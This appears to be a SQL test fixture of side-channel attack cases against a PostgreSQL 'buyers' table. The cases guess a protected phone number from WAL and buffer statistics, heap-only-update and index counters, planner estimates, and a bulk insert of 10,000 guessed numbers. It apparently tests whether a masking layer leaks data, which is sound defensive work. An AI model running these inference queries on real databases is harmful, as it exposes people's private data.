-- channel: what the server does with an assigned value and the true one beside it
-- case: WAL of an update shows how much of the value is right [attack]
BEGIN
-- then
EXPLAIN (ANALYZE, WAL, TIMING OFF, SUMMARY OFF, COSTS OFF) UPDATE housing.buyers SET phone = '13958520018' WHERE id = 299
-- then
ROLLBACK
-- case: buffers of an update [attack]
BEGIN
-- then
EXPLAIN (ANALYZE, BUFFERS, TIMING OFF, SUMMARY OFF, COSTS OFF) UPDATE housing.buyers SET phone = '13958520018' WHERE id = 299
-- then
ROLLBACK
-- case: heap-only updates, counted by the server [attack]
BEGIN
-- then
UPDATE housing.buyers SET phone = '13958520018' WHERE id = 299
-- then
SELECT n_tup_upd, n_tup_hot_upd FROM pg_stat_xact_user_tables WHERE relname = 'buyers'
-- then
ROLLBACK
-- case: entries of indexes behind an update, counted by the server [attack]
BEGIN
-- then
UPDATE housing.buyers SET phone = '13958520018' WHERE id = 299
-- then
SELECT idx_scan, idx_tup_fetch, n_tup_upd - n_tup_hot_upd FROM pg_stat_xact_all_tables WHERE relname = 'buyers'
-- then
ROLLBACK
-- case: rows of one true value as inserted guesses share one evaluation [attack]
BEGIN
-- then
SET LOCAL join_collapse_limit = 1
-- then
INSERT INTO housing.buyers (id, phone, created_at) SELECT 100000 + g, '138' || lpad(g::text, 4, '0') || '0024', now() FROM generate_series(0, 9999) g
-- then
SELECT min(id), max(id) - 100000 FROM (SELECT d.id, max(l.r) AS r FROM (SELECT id, phone FROM housing.buyers WHERE phone LIKE '138%0024') d CROSS JOIN generate_series(1, 4) g CROSS JOIN LATERAL (SELECT max(random()) AS r FROM generate_series(1, 50) e WHERE e::text <> d.phone) l GROUP BY d.id) x GROUP BY r HAVING count(*) > 1 ORDER BY 1
-- then
ROLLBACK
-- case: estimates of a write are shown [attack]
EXPLAIN UPDATE housing.buyers SET phone = '13811112222' WHERE id = 1
